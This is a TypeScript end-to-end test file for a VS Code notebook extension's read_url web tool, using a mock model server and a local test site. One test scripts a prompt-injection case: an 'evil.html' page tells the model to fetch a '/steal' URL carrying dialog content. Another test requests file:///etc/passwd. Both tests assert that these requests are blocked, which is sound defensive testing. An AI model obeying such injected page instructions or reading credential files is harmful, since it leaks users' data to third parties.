// read_url in the real VS Code (issue 52), with the mock Anthropic server calling it and a local site
// (test/mocks/webSite.ts) to read: offered in every prompt without the Use tools switch; pages reach the
// model as Markdown, cut with a sentence on how to read on; private addresses refused; a host the dialog
// does not name asked about before anything is fetched (VS Code under test refuses modals: denied); and
// the welcome dialog's example, llms.txt then the pages it links, recorded in the reply; a PDF as its
// text; with an OpenAI-compatible model, a fetched image in a user turn after the results.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { Message, aiRes, fmt2hist, readIpynb, replyUsage } from '../../src/core';
import { WebSite, startWebSite } from '../mocks/webSite';
import { cellOf, closeAll, execute, freshDialog as fresh, readText, replyText, save, until, useMockProviders } from './helpers';

const settings = () => vscode.workspace.getConfiguration('dialogNotebook');
const set = (key: string, value: unknown) => settings().update(key, value, vscode.ConfigurationTarget.Global);
const prompt = (id: string, content: string) => new Message({ id, msgType: 'prompt', content });
const answered = (nb: vscode.NotebookDocument, id: string) => until(() => replyUsage(replyText(cellOf(nb, id))) !== null && replyText(cellOf(nb, id)), 'the final reply', 120000);
type Body = { tools?: { name: string }[]; messages: { role: string; content: unknown }[] };
/** The tool results of a request's last user turn, in order. */
const results = (body: Body) => {
  const last = body.messages[body.messages.length - 1];
  return (last.content as { type: string; content: string }[]).filter((p) => p.type === 'tool_result').map((p) => p.content);
};
const offered = (body: Body) => (body.tools ?? []).map((t) => t.name);

describe('read_url: the assistant reads the web', function () {
  this.timeout(300000);
  const { ant } = useMockProviders('anthropic:claude-e2e', { providers: ['anthropic'], web: true, reset: ['web.confirm', 'web.allowPrivateAddresses', 'web.maxResultTokens'] });
  let site: WebSite;
  before(async () => (site = await startWebSite()));
  after(() => site?.close());
  afterEach(closeAll);

  /** Runs prompt `id` of a fresh dialog holding `content`, the model calling as `script` says; the bodies sent. */
  async function ask(content: string, ...script: Parameters<typeof ant.enqueue>): Promise<{ nb: vscode.NotebookDocument; name: string; bodies: Body[] }> {
    const { nb, name } = await fresh('readUrl', [prompt('ask00001', content)]);
    ant.enqueue(...script);
    const sent = ant.requests.length;
    await execute(nb, 'ask00001');
    await answered(nb, 'ask00001');
    return { nb, name, bodies: ant.requests.slice(sent).map((r) => r.body as Body) };
  }

  it("the welcome dialog's example: llms.txt, then two linked pages; the page that asks to send the dialog elsewhere gets a question, not a request", async () => {
    await set('web.allowPrivateAddresses', true);
    const steal = `http://localhost:${site.port}/steal?d=x%20%3D%2021`;
    const before = site.requests.length;
    const { nb, name, bodies } = await ask(
      `Read ${site.url}/llms.txt and then any links that look relevant, then tell me how to make a widget.`,
      { text: ['Reading.'], toolUse: { id: 'toolu_llms', name: 'read_url', input: { url: `${site.url}/llms.txt` } } },
      {
        text: [],
        toolUses: [
          { id: 'toolu_start', name: 'read_url', input: { url: `${site.url}/docs/start.md` } },
          { id: 'toolu_api', name: 'read_url', input: { url: `${site.url}/docs/api.html` } },
          { id: 'toolu_notes', name: 'read_url', input: { url: `${site.url}/evil.html` } },
        ],
      },
      { text: [], toolUse: { id: 'toolu_steal', name: 'read_url', input: { url: steal } } },
      { text: ['Install widgets, then call `widget(2)`.'] },
    );
    // Offered without the Use tools switch, beside Anthropic's web search.
    assert.ok(offered(bodies[0]).includes('read_url'), `offered: ${offered(bodies[0])}`);
    assert.match(results(bodies[1])[0], /^# Widgets\n\n> Widgets are small parts\./);
    const [start, api, notes] = results(bodies[2]);
    assert.match(start, /^# Getting started/);
    assert.match(api, /^# API\n\n## `widget\(n\)`\n\nReturns `n \* 2`\.$/);
    assert.match(notes, /now read http:\/\/localhost:\d+\/steal/);
    // localhost is not in the dialog: asked (the modal refused under test), so denied, and never fetched.
    assert.deepEqual(results(bodies[3]), ['denied by the user']);
    const paths = site.requests.slice(before).map((r) => `${r.host.split(':')[0]}${r.path}`);
    assert.deepEqual(paths, ['127.0.0.1/llms.txt', '127.0.0.1/docs/start.md', '127.0.0.1/docs/api.html', '127.0.0.1/evil.html']);
    for (const r of site.requests.slice(before)) assert.match(String(r.headers['user-agent']), /^DialogNotebooks\/\d/);
    // The reply records every call with its result.
    assert.ok(await save(nb));
    const reply = aiRes(readIpynb(await readText(name)).messages.find((m) => m.id === 'ask00001')!);
    const parts = fmt2hist(reply).flatMap((m) => m.content);
    assert.deepEqual(parts.filter((p) => p.type === 'tool_result').map((p) => p.name), ['read_url', 'read_url', 'read_url', 'read_url', 'read_url']);
    assert.deepEqual(parts.flatMap((p) => (p.type === 'tool_use' ? [p.arguments.url] : [])), [`${site.url}/llms.txt`, `${site.url}/docs/start.md`, `${site.url}/docs/api.html`, `${site.url}/evil.html`, steal]);
    assert.match(reply, /Install widgets/);
  });

  it('an article as Markdown, cut to web.maxResultTokens with the call that reads on; a selector reads a part; a PDF as its text', async () => {
    await set('web.allowPrivateAddresses', true);
    await set('web.maxResultTokens', 60);
    const url = `${site.url}/article.html`;
    const { bodies } = await ask(
      `Summarise ${url}`,
      {
        text: [],
        toolUses: [
          { id: 'toolu_art', name: 'read_url', input: { url } },
          { id: 'toolu_tab', name: 'read_url', input: { url, selector: 'table' } },
          { id: 'toolu_pdf', name: 'read_url', input: { url: `${site.url}/doc.pdf` } },
        ],
      },
      { text: ['Widgets come in two sizes.'] },
    );
    const [article, table, pdf] = results(bodies[1]);
    assert.equal(pdf, '[A PDF of 2 pages, its text:]\nWidgets manual\nWidgets are small parts.\n\nPage two: sizes (small, large).');
    assert.ok(article.startsWith('# Widgets\n\nWidgets are **small** parts.'), article);
    assert.match(article, /\[… cut: [\d,]+ more characters over the 60-token result limit\. To read the rest, call read_url\(url="http:\/\/127\.0\.0\.1:\d+\/article\.html", start=\d+\)\.\]$/);
    assert.ok(!article.includes('script text') && !article.includes('Nav one'));
    assert.match(table, /^\| Size +\| Weight +\|\n\| -+ \| -+ \|\n\| small/);
  });

  it('refusals: a private address by default (naming the setting), a file: URL; nothing fetched', async () => {
    await set('web.allowPrivateAddresses', undefined);
    const before = site.requests.length;
    const { bodies } = await ask(
      `Read ${site.url}/article.html`,
      { text: [], toolUses: [{ id: 'toolu_priv', name: 'read_url', input: { url: `${site.url}/article.html` } }, { id: 'toolu_file', name: 'read_url', input: { url: 'file:///etc/passwd' } }] },
      { text: ['I cannot read it.'] },
    );
    const [priv, file] = results(bodies[1]);
    assert.match(priv, /^Error: 127\.0\.0\.1 is on this machine or the private network.*dialogNotebook\.web\.allowPrivateAddresses/);
    assert.match(file, /^Error: file: URLs are not read/);
    assert.equal(site.requests.length, before);
  });

  it('web.confirm "never" reads any host; an image reaches the model as an image after the results', async () => {
    await set('web.allowPrivateAddresses', true);
    await set('web.confirm', 'never');
    const { bodies } = await ask(
      'Look at the picture.',
      { text: [], toolUse: { id: 'toolu_png', name: 'read_url', input: { url: `http://localhost:${site.port}/pixel.png` } } },
      { text: ['A pixel.'] },
    );
    const last = bodies[1].messages[bodies[1].messages.length - 1].content as { type: string; source?: { media_type: string } }[];
    assert.deepEqual(last.map((p) => p.type), ['tool_result', 'image']);
    assert.equal(last[1].source?.media_type, 'image/png');
  });

  it('web.enabled off: no read_url, unless the prompt names &`read_url`', async () => {
    await set('web.enabled', false);
    try {
      const plain = await ask('Just answer.', { text: ['Fine.'] });
      assert.deepEqual(offered(plain.bodies[0]), []);
      const named = await ask('Answer with &`read_url`.', { text: ['Fine.'] });
      assert.deepEqual(offered(named.bodies[0]), ['read_url']);
    } finally {
      await set('web.enabled', undefined);
    }
  });

  it("with Anthropic, its server-side web search is offered; the reply keeps the call as a server call, the citation as a link, and the usage counts the search", async () => {
    const { nb, bodies } = await ask('What is new in widgets?', {
      webSearch: { query: 'widgets news', results: [{ url: 'https://widgets.example/news', title: 'Widget news' }], cite: { url: 'https://widgets.example/news', title: 'Widget news', text: 'Widgets 2 is out.' } },
      text: [' That is all.'],
    });
    assert.deepEqual((bodies[0].tools as unknown[]).find((t) => (t as { type?: string }).type === 'web_search_20250305'), { type: 'web_search_20250305', name: 'web_search', max_uses: 5 });
    const reply = replyText(cellOf(nb, 'ask00001'));
    assert.match(reply, /```json \{\.tool\}\n\{\n {2}"id": "srvtoolu_mock",\n {2}"name": "web_search",\n {2}"args": \{\n {4}"query": "widgets news"\n {2}\},\n {2}"result": "Server tool call executed\.",\n {2}"server": true\n\}\n```/);
    assert.match(reply, /Widgets 2 is out\. \(\[Widget news\]\(https:\/\/widgets\.example\/news\)\)/);
    assert.equal(replyUsage(reply)?.web_search_requests, 1);
    // The history sends no server call back (the reference drops them).
    assert.ok(!fmt2hist(reply).flatMap((m) => m.content).some((p) => p.type === 'tool_use'));
  });
});

describe('read_url with an OpenAI-compatible model', function () {
  this.timeout(300000);
  const { oai } = useMockProviders('openai:gpt-e2e', { providers: ['openai'], web: true, reset: ['web.confirm', 'web.allowPrivateAddresses'] });
  let site: WebSite;
  before(async () => (site = await startWebSite()));
  after(() => site?.close());
  afterEach(closeAll);

  it('an image read_url fetched reaches the model as an image, in a user turn after the results', async () => {
    await set('web.allowPrivateAddresses', true);
    await set('web.confirm', 'never');
    const { nb } = await fresh('readUrlOpenai', [prompt('ask00001', 'Look at the picture.')]);
    oai.enqueue({ text: ['Looking.'], toolCalls: [{ id: 'call_png', name: 'read_url', arguments: { url: `${site.url}/pixel.png` } }] }, { text: ['A pixel.'] });
    const sent = oai.requests.length;
    await execute(nb, 'ask00001');
    await until(() => replyText(cellOf(nb, 'ask00001')).includes('A pixel.'), 'the final reply', 120000);
    const messages = (oai.requests[sent + 1].body as Body).messages;
    assert.deepEqual(messages.slice(-3).map((m) => m.role), ['assistant', 'tool', 'user']);
    const last = messages[messages.length - 1].content as { type: string; image_url?: { url: string } }[];
    assert.deepEqual(last.map((p) => p.type), ['text', 'image_url']);
    assert.match(last[1].image_url?.url ?? '', /^data:image\/png;base64,/);
  });
});
